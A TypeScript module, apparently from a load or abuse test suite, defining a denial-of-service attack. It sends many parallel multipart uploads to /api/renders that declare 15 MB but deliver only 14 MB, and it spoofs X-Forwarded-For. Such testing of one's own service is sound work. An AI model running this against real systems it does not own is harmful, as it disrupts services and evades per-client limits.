import { connect } from 'node:net';
import type { Attack } from '../attack.ts';

const declaredBytes = 15 * 1024 * 1024;
const sentBytes = 14 * 1024 * 1024;

/** Truncated multipart bodies, resent after each timeout. */
export const halfSentForms: Attack = {
  name: 'disk: forms that are sent by half',
  actor: 'anonymous',
  parallel: 14,
  prepare: ({ origin, address, signal }) => {
    const { host, hostname, port } = new URL(origin);
    const head = [
      'POST /api/renders HTTP/1.1',
      `Host: ${host}`,
      `Origin: ${origin}`,
      `X-Forwarded-For: ${address}`,
      'Content-Type: multipart/form-data; boundary=B',
      `Content-Length: ${declaredBytes}`,
      '',
      '--B\r\nContent-Disposition: form-data; name="x"; filename="a"\r\n\r\n',
    ].join('\r\n');
    const half = Buffer.alloc(sentBytes, 65);
    return () =>
      new Promise((resolve) => {
        let status = 0;
        const socket = connect(Number(port), hostname);
        const end = () => socket.destroy();
        signal?.addEventListener('abort', end, { once: true });
        socket.on('error', () => undefined);
        socket.on('data', (data) => {
          status ||= Number(/^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 0);
        });
        socket.once('close', () => {
          signal?.removeEventListener('abort', end);
          resolve(status);
        });
        socket.write(head);
        socket.write(half);
      });
  },
};
